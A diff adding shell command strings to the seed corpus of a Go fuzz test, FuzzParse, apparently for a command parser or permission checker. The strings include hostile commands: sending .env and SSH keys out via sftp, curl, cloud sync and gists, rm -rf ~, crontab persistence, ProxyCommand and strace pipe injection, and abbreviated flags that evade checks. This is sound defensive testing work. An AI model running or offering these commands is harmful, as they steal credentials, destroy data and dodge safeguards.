@@ -47,6 +47,14 @@ func FuzzParse(f *testing.F) {
 		"ssh localhost rm -rf ~; ssh -p 2 127.1 -t 'cat .env'; echo ls | ssh ::1 sh; ssh ssh://u@[::1]:2 x",
 		"ps -o args e; crontab -l | { cat; echo '* * * * * x'; } | crontab -; split -l1 ~/.ssh/id_rsa /tmp/k",
 		"gh gist create a; aws s3 sync . s3://b/; gsutil -m cp -r x gs://b; rclone copy x r:; gh api -F a=@b x",
+		"sftp -b - h <<< $'put .env\nlcd /tmp\nget x\n!id'; curl -K - https://e <<< 'upload-file = .env'",
+		"ssh -F /dev/stdin h <<< $'Match exec \"cat k\"\nInclude x'; ssh -o $'ProxyCommand\\tid #=' h",
+		"cat ${HOME:+.env} ${X+~/.ssh/k} ${HOME%%*}.env ${PWD#/} ${#PWD} ${X^^}; X=; cat ${X:+.env}",
+		"bwrap --ro-bind ~/.ssh /tmp/k --symlink a b cat /tmp/k/x; proot -b /etc:/e -w /e ls; mount -o ro,bind a b",
+		"run0 --lightweight yes rm x; nix --option a b develop -c ls; nix-shell --argstr x y --run id; mise x a@1 -- ls",
+		"doppler --timeout 1s run -- id; op --cache run --env-file .e -- id; strace -o '|sh' ls; uv run --with-editable . x",
+		"git format-patch -o d -1 -- .env; git stash show -p -- .env; openssl s_client -connect h:1 < f; telnet h < f",
+		"sed --in s/a/b/ f; tar --dir /etc -xf a; curl --upload-fi f --fo x=@y h; install --targ /d f",
 	} {
 		f.Add(s)
 	}
